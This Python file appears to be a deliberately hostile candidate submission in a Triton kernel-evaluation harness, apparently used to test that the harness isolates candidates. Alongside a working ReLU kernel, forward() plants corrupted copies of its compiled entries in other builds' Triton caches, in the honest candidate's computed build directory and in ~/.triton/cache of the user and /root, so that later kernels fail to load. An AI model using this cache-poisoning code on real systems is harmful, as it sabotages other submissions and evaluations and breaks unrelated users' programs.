"""Hostile: poisons every Triton cache it can reach, so that the next candidate's kernel fails to load."""
import torch
import torch.nn as nn
import triton
import triton.language as tl


@triton.jit
def relu_kernel(x_ptr, y_ptr, n, BLOCK: tl.constexpr):
    offs = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    mask = offs < n
    x = tl.load(x_ptr + offs, mask=mask)
    tl.store(y_ptr + offs, tl.maximum(x, 0.0), mask=mask)


# relu_kernel is honest.py's, line for line and at the same lines, and forward() launches it as honest.py does, so
# Triton keys their compiles alike (a hash of the source, its first line, the launch's specialisation and the
# target). Once its own cache holds them (its first launch on a GPU; on CPU, kforge's compile for a GPU target after
# the trials), forward() copies each entry into every other Triton cache it finds, the kernel's metadata replaced by
# garbage: a candidate that loads a planted entry gets no kernel (its launch, or the compile that proves it one on
# CPU, fails). Its targets: the Triton cache of every build under kforge's build root it can list, and of honest.py's
# build, whose key it computes as kforge does; one at the root itself; ~/.triton/cache of the user it runs as (the
# default of every Triton program on the machine).
import json  # noqa: E402
import os  # noqa: E402
import pwd  # noqa: E402
from pathlib import Path  # noqa: E402

POISON = b"{kforge-poisoned"


def _builds(root: Path) -> list[Path]:
    """The build dirs it can name: those it can list, and honest.py's."""
    found = []
    try:
        found += [d for d in root.iterdir() if d.is_dir()]
    except OSError:
        pass
    try:
        import evaluator
        from evaluator.parent.batch import build_key

        honest = Path(evaluator.__file__).parents[1] / "tests" / "candidates" / "triton" / "relu" / "honest.py"
        found.append(root / build_key(honest.read_text(), "cuda" if torch.cuda.is_available() else "cpu"))
    except Exception:
        pass
    return found


def _targets(own: Path) -> list[Path]:
    root = own.parent.parent  # <build root>/<its own build>/triton
    builds = [d / "triton" for d in _builds(root) if d != own.parent] + [root / "triton"]
    homes = {Path(pwd.getpwuid(os.getuid()).pw_dir), Path("/root"), Path(os.path.expanduser("~"))}
    return builds + [home / ".triton" / "cache" for home in homes]


def _plant(entry: Path, cache: Path) -> None:
    """The entry in `cache`, under its own key, with every .json of the kernel (its metadata) garbage."""
    planted, paths = cache / entry.name, {}
    planted.mkdir(parents=True, exist_ok=True)
    for file in entry.iterdir():
        if file.is_file() and not file.name.startswith("__grp__"):
            (planted / file.name).write_bytes(POISON if file.suffix == ".json" else file.read_bytes())
            paths[file.name] = str(planted / file.name)
    for group in entry.glob("__grp__*"):
        (planted / group.name).write_text(json.dumps({"child_paths": paths}))


def poison() -> bool:
    """Plant its compiled entries everywhere it can; False while its own cache holds none yet."""
    own = Path(os.environ.get("TRITON_CACHE_DIR") or Path.home() / ".triton" / "cache")
    entries = [e for e in own.glob("*") if any(e.glob("__grp__*"))] if own.is_dir() else []
    for cache in _targets(own) if entries else []:
        for entry in entries:
            try:
                _plant(entry, cache)
            except OSError:
                pass
    return bool(entries)


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()
        self.poisoned = False

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        x = x.contiguous()
        y = torch.empty_like(x)
        n = x.numel()
        relu_kernel[(triton.cdiv(n, 4096),)](x, y, n, BLOCK=4096)
        if not self.poisoned:
            self.poisoned = poison()
        return y
